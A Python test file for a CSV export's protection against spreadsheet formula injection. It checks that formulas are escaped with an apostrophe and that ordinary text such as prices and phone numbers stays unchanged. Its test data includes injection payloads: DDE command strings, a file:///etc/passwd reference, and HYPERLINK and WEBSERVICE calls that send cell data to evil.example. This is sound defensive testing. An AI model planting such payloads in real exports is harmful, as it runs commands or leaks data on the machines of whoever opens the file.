"""Formulas in texts: what a spreadsheet would run is escaped, and nothing else."""

import csv
import io
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bot.export.csv_file import csv_file
from bot.export.formulas import harmless, looks_like_formula
from genie.tables import CellKind
from tests.bot.export.results import column, contents

FORMULAS = [
    "=1+1",
    "=A1",
    "= 5 apples",
    "=SUM(A1:A9)",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "='file:///etc/passwd'#$passwd.A1",
    "=-1",
    "+1+1",
    "+1-1",
    "-2*3",
    "-A1",
    "+$A$1:B2",
    "+(1+2)",
    '-"5"',
    '+HYPERLINK("https://evil.example","x")',
    '+HYPERLINK ("https://evil.example")',
    '+HYPERLINK("5 apples;","x")',
    '+HYPERLINK("https://evil.example/?q=;5 apples","y")',
    '-foo+WEBSERVICE("https://evil.example/"&A1)',
    "+INDIRECT(A1)",
    "-SUM(1, 2)",
    "-SUM(1:3 A1:B2)",
    "+NOW()",
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+Sheet2!A1",
    '+\'a"\'!A1&HYPERLINK("5 x")',
    "＝1+1",
    "＋1+1",
    "－SUM（A1）",
    "＠SUM(A1)",
]
TEXTS = [
    "",
    "=",
    "==",
    "=> next",
    "-1",
    "-5.25",
    "+1,234.50",
    "-$5.00",
    "-NT$1,200.50",
    "-1E5",
    "- 5 %",
    "-5 °C",
    "-5°",
    "－5 °C",
    "-5€",
    "+5.000,00 €",
    "-5 to -3",
    "+/- 5",
    "+08:00",
    "+886 2 1234 5678",
    "+886-2-1234-5678",
    "+1 (555) 123-4567",
    "+1 800 FLOWERS",
    "-",
    "--",
    "-- see you! --",
    "- bullet",
    "-bullet",
    "- item(s)",
    "- Sales (net)",
    "- Sales (2024)",
    "- item (2 pcs)",
    "- 第一項",
    "@name",
    "@abc123",
    "@ann (see below)",
    "-Infinity",
    "x=1",
    "a-b",
    "a;b",
    "'=1+1",
    "first\n- second\n- third",
    "007",
    "1E5",
    "\tindented",
]
IN_FRONT = ["", " ", "\t", "\r", "\n", "\u00a0", "\u3000", "\x01", '"', "\u200b", "\u202e"]
BEFORE = ["a;", "a\t", "a\r\n", "a\n", ";"]


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("in_front", IN_FRONT)
def test_formulas_are_escaped(formula: str, in_front: str) -> None:
    """This includes prefixes that some programs skip."""
    text = in_front + formula

    assert looks_like_formula(text)
    assert harmless(text).startswith("'")
    assert harmless(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("formula", [f for f in FORMULAS if ";" not in f])
@pytest.mark.parametrize("before", BEFORE)
def test_formulas_after_a_separator_are_escaped(formula: str, before: str) -> None:
    """German Excel splits at semicolons, and then does not see that a line break is quoted."""
    assert harmless(f"{before}{formula}").startswith(f"{before}'")


@pytest.mark.parametrize("text", TEXTS)
def test_other_texts_are_unchanged(text: str) -> None:
    """Texts are data, which programs and people compare."""
    assert harmless(text) == text
    assert not looks_like_formula(text)


PARTS = ("x", "|", '"', "'", "[x", "(", "a(", "1 ", " ", "x ", "1,", "a.", ";-1+1")


@pytest.mark.parametrize("part", PARTS)
def test_long_texts_take_linear_time(part: str) -> None:
    """Quadratic time would be minutes for one of them."""
    text = "-" + part * 20_000

    assert len(harmless(text)) >= len(text)


ANYTHING = st.text() | st.text(
    st.sampled_from(list("=+-@'\";\t\n ()!|&:.$%019aAeR°\u200b＝－（１Ａ")), max_size=12
)
_NOTHING_BEFORE = re.compile(r"(?:^|[;\t\r\n])[^\w;\t\r\n]*[=+\-@＝＋－＠]")


@settings(derandomize=True, deadline=None, max_examples=1500)
@given(ANYTHING)
@example("a;'=1")
def test_only_apostrophes_are_added(text: str) -> None:
    """There is one before each sign that may start a formula; an escaped text is unchanged."""
    guarded = harmless(text)

    assert guarded.replace("'", "") == text.replace("'", "")
    assert (guarded == text) or _NOTHING_BEFORE.search(text)
    assert harmless(guarded) == guarded
    assert not looks_like_formula(guarded)


@settings(derandomize=True, deadline=None, max_examples=300)
@given(st.sampled_from(FORMULAS), ANYTHING, st.sampled_from(["", ";", "\n"]))
def test_no_cell_is_a_formula_with_either_separator(
    formula: str, before: str, separator: str
) -> None:
    """The file is read with a semicolon and with a comma."""
    text = f"{before}{separator}{formula}" if separator else formula
    content = csv_file(contents([column("c", CellKind.TEXT)], [("x",), (text,)]))

    lines = content.decode("utf-8-sig")
    for delimiter in ",;":
        read = csv.reader(io.StringIO(lines, newline=""), delimiter=delimiter)
        cells = [cell.lstrip() for row in read for cell in row]
        assert not any(cell.startswith("=") and looks_like_formula(cell) for cell in cells)


IDS = st.from_regex(r"[A-Z0-9]{1,12}(?:-[A-Z0-9]{1,8}){0,3}", fullmatch=True)


@settings(derandomize=True, deadline=None, max_examples=300)
@given(IDS | st.from_regex(r"0[0-9]{1,15}", fullmatch=True))
def test_ids_round_trip(text: str) -> None:
    """This includes leading zeros, dashes and letters."""
    content = csv_file(contents([column("id", CellKind.TEXT)], [(text,)]))

    assert content.decode("utf-8-sig") == f"id\r\n{text}\r\n"
